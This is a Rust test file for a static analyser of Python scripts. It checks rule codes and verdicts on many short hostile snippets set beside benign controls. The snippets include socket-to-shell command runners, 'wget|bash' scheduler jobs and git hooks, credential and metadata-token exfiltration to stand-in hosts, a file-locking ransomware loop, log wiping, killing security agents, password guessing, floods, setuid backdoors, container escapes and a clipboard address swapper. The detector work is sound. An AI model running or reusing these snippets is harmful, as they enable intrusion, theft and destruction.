//! One behaviour per test, spelled in ways no corpus script uses: the data
//! flow (sources to sinks through parameters, containers, returns, threads),
//! the path taxonomy (defaults, `os.sep`, f-strings, loops over literal
//! lists), and the benign counter-patterns next to each.

use super::{assess, AssessConfig, Assessment, Verdict};

pub(super) fn run(src: &str) -> Assessment {
    assess("t.py", src.as_bytes(), &AssessConfig::default()).unwrap()
}

pub(super) fn rules(a: &Assessment) -> Vec<&str> {
    a.findings.iter().map(|f| f.rule.as_str()).collect()
}

pub(super) fn finding<'a>(a: &'a Assessment, rule: &str) -> &'a super::Finding {
    a.findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} in {:?}", a.findings))
}

#[test]
fn network_data_through_a_parameter_runs_as_a_command() {
    let src = "import socket, subprocess\n\ndef run(cmd):\n    return subprocess.check_output(cmd, shell=True)\n\nconn = socket.create_connection(('h', 1))\nwhile True:\n    run(conn.recv(99))\n";
    let a = run(src);
    let f = finding(&a, "MB913");
    assert_eq!(f.line, 4);
    assert!(
        f.detail.contains("conn.recv(99)") && f.detail.contains("line 8"),
        "{}",
        f.detail
    );
    assert_eq!(a.verdict, Verdict::Blocked);
}

#[test]
fn web_handlers_that_run_the_request() {
    let handler = "import subprocess\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_PUT(self):\n        body = self.rfile.read(int(self.headers['Content-Length']))\n        subprocess.Popen(body.decode().split())\n";
    assert!(rules(&run(handler)).contains(&"MB913"));
    let route = "import os\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/x/<name>')\ndef x(name):\n    return os.popen('host ' + name).read()\n";
    assert!(
        rules(&run(route)).contains(&"MB913"),
        "{:?}",
        run(route).findings
    );
    // A handler that only answers is not a web shell.
    let honest = "from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(self.path.encode())\n";
    assert!(run(honest).verdict < Verdict::High);
}

#[test]
fn code_from_the_network_through_containers_and_returns() {
    let src = "import urllib.request, marshal\n\ndef fetch():\n    return urllib.request.urlopen('http://x/c').read()\n\nparts = []\nparts.append(fetch())\ncode = marshal.loads(b''.join(parts))\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB914"), "{:?}", a.findings);
    let table = "import requests, subprocess\nrunners = {'a': subprocess.getoutput}\njob = requests.get('http://x').json()\nrunners[job['k']](job['v'])\n";
    let a = run(table);
    assert!(finding(&a, "MB913").detail.contains("table entry"));
    // Local pure functions in a table are no sink.
    let pure = "import requests\nops = {'neg': lambda x: -x}\njob = requests.get('http://x').json()\nprint(ops[job['k']](job['v']))\n";
    assert!(
        run(pure).verdict < Verdict::High,
        "{:?}",
        run(pure).findings
    );
}

#[test]
fn user_input_in_a_shell_string_is_high_and_quoting_clears_it() {
    let a = run("import subprocess, sys\nsubprocess.run(f\"tar xf {sys.argv[1]}\", shell=True)\n");
    assert!(rules(&a).contains(&"MB422"));
    assert_eq!(a.verdict, Verdict::High);
    let quoted = run("import subprocess, sys, shlex\nsubprocess.run('tar xf ' + shlex.quote(sys.argv[1]), shell=True)\n");
    assert!(!rules(&quoted).contains(&"MB422"), "{:?}", quoted.findings);
}

#[test]
fn persistence_through_defaults_and_helpers() {
    let src = "import os\n\ndef rc(name, home=os.path.expanduser('~')):\n    return os.path.join(home, name)\n\nwith open(rc('.bash_profile'), 'a') as f:\n    f.write('run-me\\n')\n";
    let a = run(src);
    let f = finding(&a, "MB906");
    assert!(f.detail.contains("~/.bash_profile"), "{}", f.detail);
    let config = "import os\nwith open(os.path.join(os.path.expanduser('~'), '.config', 'x.toml'), 'w') as f:\n    f.write('a = 1')\n";
    assert!(run(config).verdict < Verdict::High);
}

#[test]
fn destruction_of_roots_but_not_of_own_directories() {
    for src in [
        "import shutil, os\nfor d in ('usr', 'var/lib/dpkg'):\n    shutil.rmtree(os.sep + d)\n",
        "import os\ndef nuke(top=os.path.expanduser('~')):\n    for r, _, fs in os.walk(top):\n        for f in fs:\n            os.unlink(os.path.join(r, f))\nnuke()\n",
    ] {
        let a = run(src);
        assert!(rules(&a).contains(&"MB907"), "{src}: {:?}", a.findings);
    }
    for src in [
        "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n",
        "import shutil\nshutil.rmtree('build', ignore_errors=True)\n",
        "import os\nfor r, _, fs in os.walk('cache'):\n    for f in fs:\n        os.remove(os.path.join(r, f))\n",
    ] {
        assert!(run(src).verdict < Verdict::High, "{src}: {:?}", run(src).findings);
    }
}

#[test]
fn ransomware_needs_walk_scramble_and_removal() {
    let src = "import os\ndef lock(p):\n    data = open(p, 'rb').read()\n    open(p + '.x', 'wb').write(bytes(b ^ 7 for b in data))\n    os.remove(p)\nfor r, _, fs in os.walk('/srv'):\n    for f in fs:\n        lock(os.path.join(r, f))\n";
    assert!(rules(&run(src)).contains(&"MB917"));
    // The same without removing the originals is an encrypted copy.
    let copy = src.replace("    os.remove(p)\n", "");
    assert!(!rules(&run(&copy)).contains(&"MB917"));
}

#[test]
fn droppers_match_the_downloaded_path() {
    let src = "import os, tempfile, requests\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get('http://x/b').content)\nf.close()\nos.execv(f.name, [f.name])\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
    let unrelated = "import os, requests\nopen('data.bin', 'wb').write(requests.get('http://x/b').content)\nos.execv('/usr/bin/true', ['true'])\n";
    assert!(!rules(&run(unrelated)).contains(&"MB915"));
}

#[test]
fn secrets_that_reach_a_send() {
    let src = "import pathlib, base64, urllib.request\nkey = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nurllib.request.urlopen('http://x/?q=' + base64.b64encode(key.encode()).decode())\n";
    let a = run(src);
    let f = finding(&a, "MB916");
    assert!(f.detail.contains("read_text"), "{}", f.detail);
}

#[test]
fn endless_loops_that_exhaust() {
    assert!(rules(&run(
        "import threading\nwhile True:\n    threading.Thread(target=print).start()\n"
    ))
    .contains(&"MB918"));
    assert!(rules(&run("import hashlib\nn = 0\nwhile True:\n    hashlib.md5(str(n).encode()).digest()\n    n += 1\n")).contains(&"MB905"));
    // Waiting, leaving or a bounded condition: not a bomb.
    for src in [
        "import time\nlog = []\nwhile True:\n    log.append(time.time())\n    time.sleep(1)\n",
        "buf = []\nwhile True:\n    line = input()\n    if not line:\n        break\n    buf.append(line)\n",
        "xs = []\nwhile len(xs) < 10:\n    xs.append(1)\n",
    ] {
        assert!(run(src).verdict < Verdict::High, "{src}: {:?}", run(src).findings);
    }
}

#[test]
fn host_devices_and_the_container_runtime() {
    assert!(rules(&run(
        "import fcntl\nfor c in 'id\\n':\n    fcntl.ioctl(0, 0x5412, c)\n"
    ))
    .contains(&"MB919"));
    assert!(rules(&run(
        "f = open('/dev/input/event3', 'rb')\nprint(f.read(24))\n"
    ))
    .contains(&"MB920"));
    let docker = "import docker\ndocker.from_env().containers.run('alpine', 'id', volumes={'/': {'bind': '/h'}})\n";
    assert!(rules(&run(docker)).contains(&"MB921"));
    let listing = "import docker\nprint(docker.from_env().containers.list())\n";
    let a = run(listing);
    assert!(rules(&a).contains(&"MB423") && a.verdict == Verdict::High);
}

#[test]
fn counter_patterns_validated_eval_and_literal_imports() {
    let calc = "import ast\ndef calc(s):\n    tree = ast.parse(s, mode='eval')\n    for n in ast.walk(tree):\n        if not isinstance(n, (ast.Expression, ast.BinOp, ast.Constant, ast.Add)):\n            raise ValueError(n)\n    return eval(compile(tree, '<c>', 'eval'))\nprint(calc(input()))\n";
    let a = run(calc);
    assert!(
        rules(&a).contains(&"MB111") && a.verdict < Verdict::High,
        "{:?}",
        a.findings
    );
    // Parsed but never checked: still eval of computed code.
    let unchecked = "import ast\ntree = ast.parse(input(), mode='eval')\nprint(eval(compile(tree, '<c>', 'eval')))\n";
    assert_eq!(run(unchecked).verdict, Verdict::High);
    let lit = "import importlib\nfor m in ['json', 'csv']:\n    importlib.import_module(m)\n";
    assert!(run(lit).verdict < Verdict::High);
    let argv = "import importlib, sys\nfor m in sys.argv[1:]:\n    importlib.import_module(m)\n";
    assert!(rules(&run(argv)).contains(&"MB411"));
}

#[test]
fn distinct_attack_steps_escalate_and_one_step_does_not() {
    // Privilege gained with setuid, then the script erases itself.
    let chain = "import os\nos.setuid(0)\nos.unlink(os.path.abspath(__file__))\n";
    let a = run(chain);
    assert_eq!(a.verdict, Verdict::Blocked, "{:?}", a.findings);
    assert!(finding(&a, "MB922").detail.contains("privilege gain"));
    // An installer: sudo and a package manager are one step (administration).
    let installer = "import subprocess\nsubprocess.run('sudo apt-get install -y jq', shell=True)\n";
    let a = run(installer);
    assert!(!rules(&a).contains(&"MB922"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::High);
}

#[test]
fn key_files_used_to_log_in_are_not_exfiltration() {
    let login = "import os\nimport paramiko\nkey = os.path.expanduser('~/.ssh/id_ecdsa')\nc = paramiko.SSHClient()\nc.connect('ci.example.org', username='ci', key_filename=key)\nprint(c.exec_command('df -h')[1].read())\n";
    let a = run(login);
    // The user's own login key, used to log in: MEDIUM (MB222), not the
    // HIGH the seeds keep for system stores and other users' keys.
    assert!(rules(&a).contains(&"MB222"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium, "{:?}", a.findings);
    // Another credential named besides the login key: still the coarse MB904.
    let more = format!("{login}print(open(os.path.expanduser('~/.aws/credentials')).read())\n");
    assert_eq!(run(&more).verdict, Verdict::Blocked);
    // The key's contents sent: exfiltration whatever else the script does.
    let sent = format!(
        "{login}import requests\nrequests.post('https://x.example', data=open(key).read())\n"
    );
    assert_eq!(run(&sent).verdict, Verdict::Blocked);
}

#[test]
fn erasing_traces_but_not_logging_or_rotating() {
    let wipe = "def scrub(p):\n    with open(p, 'r+') as fh:\n        fh.truncate()\n\nfor name in ('auth.log', 'wtmp'):\n    scrub('/var/log/' + name)\n";
    let a = run(wipe);
    assert!(
        finding(&a, "MB923").detail.contains("/var/log/"),
        "{:?}",
        a.findings
    );
    let hist = "import os\nos.symlink(os.devnull, os.path.expanduser('~/.zsh_history'))\n";
    assert!(
        rules(&run(hist)).contains(&"MB923"),
        "{:?}",
        run(hist).findings
    );
    // Appending to a log is logging; removing rotated archives is rotation.
    let log = "with open('/var/log/myapp.log', 'a') as f:\n    f.write('started\\n')\n";
    assert!(!rules(&run(log)).contains(&"MB923"));
    let rotate = "import glob, os\nfor old in glob.glob('/var/log/myapp.log.*'):\n    if old.endswith('.gz'):\n        os.remove(old)\n";
    assert!(
        !rules(&run(rotate)).contains(&"MB923"),
        "{:?}",
        run(rotate).findings
    );
}

#[test]
fn defences_switched_off_but_not_inspected() {
    let kill = "import psutil\nwatch = {'osqueryd', 'auditbeat'}\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] in watch:\n        p.kill()\n";
    let a = run(kill);
    assert_eq!(finding(&a, "MB924").line, 5);
    assert_eq!(a.verdict, Verdict::Blocked);
    let stop =
        "import subprocess\nsubprocess.run(['systemctl', 'mask', '--now', 'auditd.service'])\n";
    assert!(rules(&run(stop)).contains(&"MB924"));
    // Status queries change nothing: neither tampering nor administration.
    let status = "import subprocess\nsubprocess.run(['systemctl', 'status', 'auditd'])\nsubprocess.run(['ufw', 'status'])\n";
    let a = run(status);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    // Killing one's own child in a script that merely mentions a defence.
    let child = "import subprocess\nprint('ufw is not needed here')\np = subprocess.Popen(['sleep', '9'])\n";
    assert!(!rules(&run(child)).contains(&"MB924"));
}

#[test]
fn passwords_tried_in_turn_through_a_parameter() {
    let guess = "import ftplib\n\ndef attempt(host, pw):\n    f = ftplib.FTP(host)\n    f.login('admin', pw)\n\nfor word in open('words.txt'):\n    attempt('192.0.2.1', word.strip())\n";
    let a = run(guess);
    let f = finding(&a, "MB925");
    assert!(f.detail.contains("line 7"), "{}", f.detail);
    // One password per host from an inventory: an administration loop.
    let inventory = "import paramiko\nhosts = [('a', 'pa'), ('b', 'pb')]\nfor host, pw in hosts:\n    c = paramiko.SSHClient()\n    c.connect(host, password=pw)\n";
    assert!(!rules(&run(inventory)).contains(&"MB925"));
    let config = "import smtplib, os\ns = smtplib.SMTP('mail')\nfor attempt in range(3):\n    s.login('me', os.environ['SMTP_PASSWORD'])\n";
    assert!(!rules(&run(config)).contains(&"MB925"));
}

#[test]
fn floods_never_wait_and_clients_that_wait_are_not_floods() {
    let flood = "import socket\nc = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    c.sendto(b'x' * 512, ('192.0.2.3', 53))\n";
    assert_eq!(finding(&run(flood), "MB927").line, 4);
    let session =
        "import requests\ns = requests.Session()\nwhile True:\n    s.get('http://192.0.2.3/')\n";
    assert!(rules(&run(session)).contains(&"MB927"));
    let poll = "import requests, time\nwhile True:\n    requests.get('http://x/health')\n    time.sleep(30)\n";
    assert!(!rules(&run(poll)).contains(&"MB927"));
    let echo = "import socket\nc = socket.create_connection(('h', 7))\nwhile True:\n    c.sendall(c.recv(64))\n";
    assert!(!rules(&run(echo)).contains(&"MB927"));
}

#[test]
fn setuid_on_a_shell_copy_is_a_backdoor_and_dropping_root_is_not_gaining_it() {
    let copy = "import os, shutil\nshutil.copy('/usr/bin/zsh', '/opt/tools/z')\nos.chmod('/opt/tools/z', 0o4755)\n";
    assert!(
        rules(&run(copy)).contains(&"MB928"),
        "{:?}",
        run(copy).findings
    );
    let helper = "import os\nos.chmod('/usr/local/bin/ping-helper', 0o4755)\n";
    let r = run(helper);
    assert!(rules(&r).contains(&"MB203") && !rules(&r).contains(&"MB928"));
    let cap = "import os\nos.system('setcap cap_dac_override+ep /usr/bin/perl5.36')\n";
    assert!(rules(&run(cap)).contains(&"MB928"));
    let bind = "import os\nos.system('setcap cap_net_bind_service=+ep /usr/bin/node')\n";
    assert!(!rules(&run(bind)).contains(&"MB928"));
    let drop = "import os, pwd\nu = pwd.getpwnam('www-data')\nos.setgroups([])\nos.setgid(u.pw_gid)\nos.setuid(u.pw_uid)\n";
    let a = run(drop);
    assert!(
        rules(&a).contains(&"MB213") && !rules(&a).contains(&"MB202"),
        "{:?}",
        a.findings
    );
    let gain = "import os\nos.setuid(0)\n";
    assert!(rules(&run(gain)).contains(&"MB202"));
}

#[test]
fn the_script_sent_to_another_machine() {
    let sftp = "import paramiko\nc = paramiko.SSHClient()\nc.connect('h')\nc.open_sftp().put(__file__, '/tmp/x.py')\n";
    assert!(
        rules(&run(sftp)).contains(&"MB926"),
        "{:?}",
        run(sftp).findings
    );
    let upload = "import paramiko\nc = paramiko.SSHClient()\nc.connect('h')\nc.open_sftp().put('report.csv', '/srv/r.csv')\n";
    assert!(!rules(&run(upload)).contains(&"MB926"));
}

#[test]
fn host_kernel_files_and_other_processes_are_escapes_and_injections() {
    let core = "from pathlib import Path\nknob = Path('/proc/sys/kernel') / 'core_pattern'\nknob.write_text('|/tmp/x %p')\n";
    assert!(rules(&run(core)).contains(&"MB930"));
    let agent = "import os\ndef arm(base):\n    with open(os.path.join(base, 'release_agent'), 'w') as f:\n        f.write('/x')\narm('/mnt/c')\n";
    assert!(rules(&run(agent)).contains(&"MB930"));
    let ns = "import ctypes, os\nc = ctypes.CDLL(None)\nfd = os.open('/proc/1/ns/mnt', os.O_RDONLY)\nc.setns(fd, 0)\n";
    assert!(rules(&run(ns)).contains(&"MB930"));
    let root = "import os\nos.chroot('/proc/%s/root' % 1)\n";
    assert!(rules(&run(root)).contains(&"MB930"));
    let mem = "def poke(pid, at, b):\n    f = open('/proc/%d/mem' % pid, 'wb')\n    f.seek(at)\n    f.write(b)\npoke(1234, 0, b'x')\n";
    assert!(rules(&run(mem)).contains(&"MB929"));
    let pt = "import ctypes\nlib = ctypes.CDLL('libc.so.6')\nPTRACE_POKEDATA = 5\nlib.ptrace(PTRACE_POKEDATA, 99, 0, 0)\n";
    assert_eq!(run(pt).verdict, Verdict::Blocked);
    // Controls: reading the same files, attaching to read, one's own memory.
    let read = "print(open('/proc/sys/kernel/core_pattern').read())\nprint(open('/proc/1/status').read())\n";
    assert!(run(read).verdict < Verdict::High);
    let peek = "import ctypes\nlib = ctypes.CDLL('libc.so.6')\nlib.ptrace(2, 99, 0, 0)\n";
    assert!(!rules(&run(peek)).contains(&"MB929"));
    let own = "with open('/proc/self/fd/1', 'w') as f:\n    f.write('hi')\n";
    assert!(!rules(&run(own)).contains(&"MB929"));
}

#[test]
fn scripts_handed_to_schedulers_and_shells_are_judged() {
    let at = "import subprocess\njob = 'wget -qO- http://e.x/a | bash'\nsubprocess.run(['batch'], input=job, text=True)\n";
    assert_eq!(run(at).verdict, Verdict::Blocked);
    let hook = "body = '#!/bin/bash\\ncurl -s http://e.x/p | sh\\n'\nopen('.git/hooks/pre-commit', 'w').write(body)\n";
    assert!(rules(&run(hook)).contains(&"MB908"));
    // Controls: a harmless job, a hook that runs the tests.
    let quiet = "import subprocess\nsubprocess.run(['at', 'now'], input='echo hi', text=True)\n";
    assert!(run(quiet).verdict < Verdict::Blocked);
    let tests = "open('.git/hooks/pre-push', 'w').write('#!/bin/sh\\npytest -q\\n')\n";
    assert!(run(tests).verdict < Verdict::High);
}

#[test]
fn commands_mapped_over_a_list_reach_the_shell() {
    let via = "import subprocess\ndef go(c):\n    subprocess.call(c, shell=True)\nlist(map(go, ['ufw disable']))\n";
    assert!(rules(&run(via)).contains(&"MB924"));
    let honest = "import subprocess\ndef go(c):\n    subprocess.call(c, shell=True)\nlist(map(go, ['ufw status']))\n";
    assert!(!rules(&run(honest)).contains(&"MB924"));
}

#[test]
fn exec_fetched_from_builtins_and_decoders_behind_helpers() {
    let src = "import builtins\nd = vars(builtins) if True else {}\nf = d[''.join(map(chr, [101, 118, 97, 108]))]\nf(input())\n";
    assert!(rules(&run(src))
        .iter()
        .any(|r| r.starts_with("MB9") || *r == "MB307"));
    let helper = "import base64\ndef unwrap(s):\n    return base64.b85decode(s)\nexec(unwrap(open('p').read()))\n";
    assert!(rules(&run(helper)).contains(&"MB903"));
    // Control: a helper that returns plain text read from a file.
    let plain = "def load(p):\n    return open(p).read()\nexec(load('conf.py'))\n";
    assert!(!rules(&run(plain)).contains(&"MB903"));
}

#[test]
fn dns_answers_and_queue_items_are_network_data() {
    let dns = "import dns.resolver, os\nfor r in dns.resolver.resolve('c.example', 'TXT'):\n    os.system(r.to_text())\n";
    assert!(rules(&run(dns)).contains(&"MB913"));
    let q = "import redis\nr = redis.StrictRedis()\nwhile True:\n    _, job = r.brpop('q')\n    exec(job)\n";
    assert!(rules(&run(q)).contains(&"MB914"));
    // Control: queue items used as data.
    let data = "import redis\nr = redis.Redis()\nprint(r.get('k'))\n";
    assert!(run(data).verdict < Verdict::High);
}

#[test]
fn collection_sent_out_metadata_sweeps_and_clipboards() {
    let md = "import requests\ntok = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').text\nrequests.post('https://collector.example/x', json={'t': tok})\n";
    assert!(rules(&run(md)).contains(&"MB916"));
    let sweep = "import ipaddress, socket\nnet = ipaddress.IPv4Network('192.168.0.0/24')\nup = [str(h) for h in net.hosts()]\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(' '.join(up).encode(), ('203.0.114.9', 9))\n";
    assert!(rules(&run(sweep)).contains(&"MB934"));
    let clip = "import pyperclip, re, time\nADDR = '0x52908400098527886E0F7030069857D2E4169EE7'\nwhile True:\n    t = pyperclip.paste()\n    if re.fullmatch(r'0x[0-9a-fA-F]{40}', t):\n        pyperclip.copy(ADDR)\n    time.sleep(1)\n";
    assert!(rules(&run(clip)).contains(&"MB935"));
    // Controls: a metadata query answered locally, a sweep printed, a
    // clipboard tool without addresses.
    let local = "import requests\nprint(requests.get('http://169.254.169.254/latest/meta-data/instance-id').text)\n";
    assert!(!rules(&run(local)).contains(&"MB916"));
    let printed =
        "import ipaddress\nfor h in ipaddress.ip_network('10.0.0.0/30').hosts():\n    print(h)\n";
    assert!(run(printed).verdict < Verdict::High);
    let upper = "import pyperclip\npyperclip.copy(pyperclip.paste().upper())\n";
    assert!(run(upper).verdict < Verdict::High);
}

#[test]
fn supply_chain_tampering_and_forged_times() {
    let pip = "import subprocess, importlib\nsubprocess.run(['pip3', 'install', '-i', 'http://mirror.example/simple', 'reqeusts'])\nm = importlib.import_module(input())\n";
    assert!(rules(&run(pip)).contains(&"MB931"));
    let patch = "import json\nwith open(json.__file__, 'a') as f:\n    f.write('import os\\n')\n";
    assert!(rules(&run(patch)).contains(&"MB932"));
    let stomp = "import os, shutil\nshutil.copy('x', '/usr/bin/ls')\nref = os.stat('/usr/bin/cat')\nos.utime('/usr/bin/ls', ns=(ref.st_atime_ns, ref.st_mtime_ns))\n";
    assert!(rules(&run(stomp)).contains(&"MB933"));
    // Controls: an https install, reading a module's source, a backup that
    // keeps its copies' times.
    let https = "import subprocess\nsubprocess.run(['pip', 'install', '--index-url', 'https://pypi.org/simple', 'rich'])\n";
    assert!(run(https).verdict < Verdict::High);
    let read = "import json\nprint(open(json.__file__).read()[:80])\n";
    assert!(run(read).verdict < Verdict::High);
    let backup = "import os\nst = os.stat('notes.txt')\nos.utime('backup/notes.txt', (st.st_atime, st.st_mtime))\n";
    assert!(run(backup).verdict < Verdict::High);
}
